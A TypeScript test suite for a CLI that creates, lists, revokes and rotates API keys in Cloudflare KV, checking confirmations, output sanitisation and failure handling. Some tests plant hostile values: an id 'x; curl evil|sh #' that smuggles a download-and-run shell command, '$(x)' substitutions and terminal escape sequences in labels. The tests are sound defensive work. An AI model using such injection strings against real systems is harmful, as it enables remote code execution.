import { readFileSync } from 'node:fs';
import { beforeEach, expect, test, vi } from 'vitest';
import { generateKey } from '../../../ops/keys/generate-key.ts';
import { LOCAL_KEY } from '../../../ops/local/store.ts';
import { recordName } from '../../../src/auth/key-record.ts';
import { fakeKeys } from './fake-keys.ts';

const NOW = '2027-01-31T00:00:00.000Z';
const ANNA = { id: 'key_anna', label: 'Anna', createdAt: '2026-11-20T00:00:00.000Z' };
const REVOKED = { ...ANNA, revokedAt: NOW };
const NEW_ID = expect.stringMatching(/^key_[0-9a-f]{12}$/);

let fake: ReturnType<typeof fakeKeys>;
beforeEach(() => {
  fake = fakeKeys();
  vi.setSystemTime(NOW);
});

test('a key has all digits of base62', () => {
  const keys = Array.from({ length: 100 }, () => generateKey('local').slice(13, 43));
  expect(new Set(keys.join('')).size).toBe(62);
});

test('the rule for secret scanners finds all keys but local ones', () => {
  const [, rule = ''] = readFileSync('docs/keys.md', 'utf8').split("'''");
  const environments = ['local', 'staging', 'production'];
  const found = environments.filter((name) => `KEY_${generateKey(name)}_`.match(rule));
  expect(found).toEqual(['staging', 'production']);
});

test('create prints a key alone, and passes only its hash on', async () => {
  // The longest label.
  const label = '🐈'.repeat(100);
  const { stdout, stderr } = await fake.run(`create --label ${label} --env production --yes`);
  const [record] = fake.records();
  expect(record).toEqual({ id: NEW_ID, label, createdAt: NOW });
  const line = `Key ${record?.id} (${label}) for production, read and write, expires never.\n`;
  expect(stderr).toContain(line);
  expect([...fake.values.keys()]).toEqual([await recordName(stdout.trimEnd())]);
});

test.each([
  ['15m', '2027-01-31T00:15:00.000Z'],
  ['99999d', '2300-11-15T00:00:00.000Z'],
])('create --read-only --expires %s limits a key', async (duration, expiresAt) => {
  const { stderr } = await fake.run(`create --label x --read-only --expires ${duration}`);
  expect(stderr).toContain(`, read, expires ${expiresAt}.\n`);
  expect(fake.records()).toMatchObject([{ scopes: ['read'], expiresAt }]);
});

test('list shows each key with its scopes and state, the oldest first', async () => {
  // A label cannot pass for another line or an id.
  const label = 'Bob\nkey_carl\tx';
  const expiresAt = '2027-02-01T00:00:00.000Z';
  fake.put({ ...ANNA, createdAt: NOW, scopes: ['read'], expiresAt });
  fake.put({ ...REVOKED, id: 'key_bob', label });
  const anna = ['key_anna', NOW, expiresAt, 'active', 'read', 'Anna'];
  const shown = 'Bob\uFFFDkey_carl\uFFFDx';
  const bob = ['key_bob', ANNA.createdAt, 'never', 'revoked', 'read+write', shown];
  const { stdout, stderr } = await fake.run('list');
  expect(stdout).toBe(`${bob.join('\t')}\n${anna.join('\t')}\n`);
  expect(stderr).toBe('id\tcreated\texpires\tstate\tscopes\tlabel\n');
});

test('list has every key of more than one read', async () => {
  // Wrangler reads 100 at once.
  for (let i = 100; i <= 300; i += 1) fake.put({ ...ANNA, id: `key_${i}` });
  expect((await fake.run('list')).stdout.split('\n')).toHaveLength(202);
});

test('revoke keeps the rest of a record, and changes nothing the second time', async () => {
  // An expired key can be revoked, too.
  const expired = { ...ANNA, plan: 'gold', expiresAt: NOW };
  fake.put(expired);
  const { stdout } = await fake.run('revoke key_anna --env production --yes');
  expect(stdout).toContain('\nnpm run keys -- revoke key_anna --env production\n');
  vi.setSystemTime('2027-02-01');
  const again = `Key key_anna (Anna) was already revoked at ${NOW}\n`;
  const second = await fake.run('revoke key_anna --env production');
  expect(second).toMatchObject({ code: 0, stdout: again, stderr: '' });
  expect(fake.records()).toEqual([{ ...expired, revokedAt: NOW }]);
});

test('revoke reads a key from standard input, also one that no list shows yet', async () => {
  const { stdout: key } = await fake.run('create --label Anna --env production --yes');
  fake.before = (command) => expect(command).not.toBe('list');
  const { code, stdout, stderr } = await fake.run('revoke --env production --yes', ` ${key}`);
  expect(code).toBe(0);
  expect(stdout + stderr).not.toContain(key.trim());
  expect(fake.records()).toMatchObject([{ label: 'Anna', revokedAt: NOW }]);
});

test('a rotated key keeps the label, lifetime, scopes and family of the first one', async () => {
  // The worker grants one of them.
  const scopes = ['read', 'admin'];
  const first = { ...ANNA, createdAt: '2026-11-22T00:00:00.000Z', scopes };
  const plan = 'gold';
  const expiresAt = '2027-02-20T00:00:00.000Z';
  fake.put({ ...first, expiresAt, plan });
  // Longer than the life of the key.
  const { stderr } = await fake.run('rotate key_anna --overlap 30d --env production --yes');
  expect(stderr).toContain(`The old key key_anna (Anna) expires at ${expiresAt}\n`);
  const id = fake.records()[1]?.id;
  await fake.run(`rotate ${id} --env production --yes`);
  const next = { ...first, scopes: ['read'], createdAt: NOW, family: 'key_anna' };
  const [, , third] = fake.records();
  expect(fake.records()).toEqual([
    { ...first, expiresAt, plan, rotatedTo: id },
    { ...next, id, expiresAt: '2027-02-01T00:00:00.000Z', rotatedTo: third?.id },
    { ...next, id: NEW_ID, expiresAt: '2027-05-01T00:00:00.000Z' },
  ]);
});

function failPutOfAnna() {
  fake.before = (command, name) => {
    if (command === 'put' && name === 'key:key_anna') throw new Error('KV fails');
  };
}

test('a rotation whose last change fails has printed a valid key', async () => {
  fake.put(ANNA);
  failPutOfAnna();
  const { code, stdout, stderr } = await fake.run('rotate key_anna');
  expect([code, fake.values.has(await recordName(stdout.trimEnd()))]).toEqual([1, true]);
  expect(stderr).toMatch(/\nerror: KV fails\n$/);
  // It can be rotated again.
  fake.before = () => {};
  await fake.run('rotate key_anna --overlap 15m');
  expect(fake.records()[0]).toMatchObject({ expiresAt: '2027-01-31T00:15:00.000Z' });
});

test.each([
  ['is revoked', REVOKED],
  ['was replaced by key_b: rotate that one', { ...ANNA, rotatedTo: 'key_b' }],
])('a key is not rotated that before the answer %s', async (problem, change) => {
  fake.put(ANNA);
  fake.before = (_command, name) => {
    // Not in the bulk read before the question.
    if (name === 'key:key_anna') fake.put(change);
  };
  expect(await fake.run('rotate key_anna --env production', 'y\n')).toMatchObject({
    code: 1,
    stderr: expect.stringContaining(`key_anna (Anna) ${problem}\n`),
  });
  expect(fake.records()).toEqual([change]);
});

/** Runs a command that must fail and change nothing. Returns its error. `typed`: on a terminal. */
async function errorOf(line: string, typed?: string) {
  const before = [...fake.values];
  const result = await fake.run(line, typed);
  expect(result).toMatchObject({ code: 1, stdout: '' });
  expect([...fake.values]).toEqual(before);
  return result.stderr;
}

test('a key that is passed as an argument is not printed', async () => {
  expect(await errorOf(`revoke ${LOCAL_KEY}`)).not.toContain(LOCAL_KEY);
});

test('revoke finds no unknown id, no key of another environment, and none without a record', async () => {
  expect(await errorOf('revoke key_x')).toContain(
    'error: there is no key with this id (Cloudflare lists a new one within about a minute',
  );
  const question = 'Paste the key, and press Enter:\n';
  const other = 'error: the input is not an API key of --env staging: paste the key alone\n';
  expect(await errorOf('revoke --env staging', `${LOCAL_KEY}\n`)).toBe(question + other);
  // Without a terminal.
  expect(await errorOf('revoke --env staging')).toBe(other);
  const unknown = `error: KV has no valid record ${await recordName(LOCAL_KEY)}: docs/keys.md#delete-a-record\n`;
  expect(await errorOf('revoke', `${LOCAL_KEY}\n`)).toBe(question + unknown);
});

test.each([
  ['no label', { label: undefined }],
  ['an id for a shell', { id: 'x; curl evil|sh #' }],
  ['an id that is an option', { id: '--yes' }],
  ['an id of 65 characters', { id: 'x'.repeat(65) }],
])('a record with %s is named, and other keys are revoked all the same', async (_, change) => {
  fake.put(ANNA);
  fake.put({ ...ANNA, ...change }, 'key:x\u001b');
  const problem = 'error: KV has no valid record key:x\uFFFD: docs/keys.md#delete-a-record\n';
  for (const line of ['list', 'revoke key_anna'])
    expect(await fake.run(`${line} --env staging`)).toMatchObject({
      code: 1,
      stderr: expect.stringContaining(problem),
    });
  expect(fake.records()[0]).toEqual(REVOKED);
});

test.each([
  [1024, ''],
  [1025, 'Backups leave this record out, because it has over 1,024 bytes.\n'],
])('a record of %i bytes is revoked', async (bytes, warning) => {
  const planted = { ...ANNA, note: 'é'.repeat(400) };
  const length = bytes - Buffer.byteLength(JSON.stringify({ ...planted, ...REVOKED, more: '' }));
  fake.put({ ...planted, more: 'x'.repeat(length) });
  expect(await fake.run('revoke key_anna')).toMatchObject({ code: 0, stderr: warning });
  expect(fake.records()).toMatchObject([{ ...planted, revokedAt: NOW }]);
});

test('an id may have 64 characters', async () => {
  const id = 'x'.repeat(64);
  fake.put({ ...ANNA, id });
  expect((await fake.run(`revoke ${id}`)).code).toBe(0);
});

test('a list names a key that a restore would make active again', async () => {
  fake.put(REVOKED);
  fake.metadata.set('key:key_anna', ANNA);
  const problem = 'error: key_anna (Anna): a restore would write other metadata of key:key_anna\n';
  expect(await fake.run('list')).toMatchObject({
    code: 1,
    stderr: expect.stringContaining(problem),
  });
});

test('an id that several records have is revoked in all, and not rotated', async () => {
  fake.put(ANNA);
  // The worker accepts it, whatever its family and successor are.
  fake.put({ ...ANNA, label: 'Planted', family: '$(x)', rotatedTo: 5 }, 'key:\u001b');
  const names = 'Records with this id: key:key_anna key:\uFFFD\n';
  const refusal = 'error: several records have this id: revoke it, and create a key\n';
  expect(await errorOf('rotate key_anna')).toBe(names + refusal);
  failPutOfAnna();
  expect(await fake.run('revoke key_anna')).toEqual({
    code: 1,
    stdout: expect.stringContaining('Key key_anna (Planted) is revoked.'),
    stderr: `${names}error: KV fails\n`,
  });
});

test.each(['list', 'revoke key_anna', 'rotate key_anna'])(
  '%j prints nothing of a planted label that a terminal carries out',
  async (line) => {
    fake.put({ ...ANNA, label: '\u001b[2J\u009b\r\u202e\u2028' });
    const { stdout, stderr } = await fake.run(line);
    expect(stdout + stderr).not.toMatch(/(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}]/u);
  },
);

test.each([
  ['is expired', { expiresAt: NOW }],
  ['was replaced by key_new: rotate that one', { rotatedTo: 'key_new' }],
  ['was replaced by another key: rotate that one', { rotatedTo: '$(x)' }],
])('a key that %s cannot be rotated', async (problem, change) => {
  fake.put({ ...ANNA, ...change });
  expect(await errorOf('rotate key_anna')).toBe(`error: the key key_anna (Anna) ${problem}\n`);
});

test.each([
  ['create --label x', 'create a key', '\n', 'y\n'],
  ['revoke key_anna', 'revoke the key key_anna (Anna)', 'yeah\n', ' Yes \n'],
  ['rotate key_anna', 'rotate the key key_anna (Anna)', 'by\n', 'YES\n'],
])('production is changed by %s only after a yes', async (line, change, no, yes) => {
  fake.put(ANNA);
  const command = `${line} --env production`;
  const question = `This will ${change} in PRODUCTION. Continue? [y/N]\n`;
  expect(await errorOf(command, no)).toBe(`${question}error: cancelled\n`);
  expect(await errorOf(command)).toBe(
    `error: confirmation required: add --yes to ${change} in PRODUCTION without a terminal\n`,
  );
  expect(await fake.run(command, yes)).toMatchObject({ code: 0 });
});
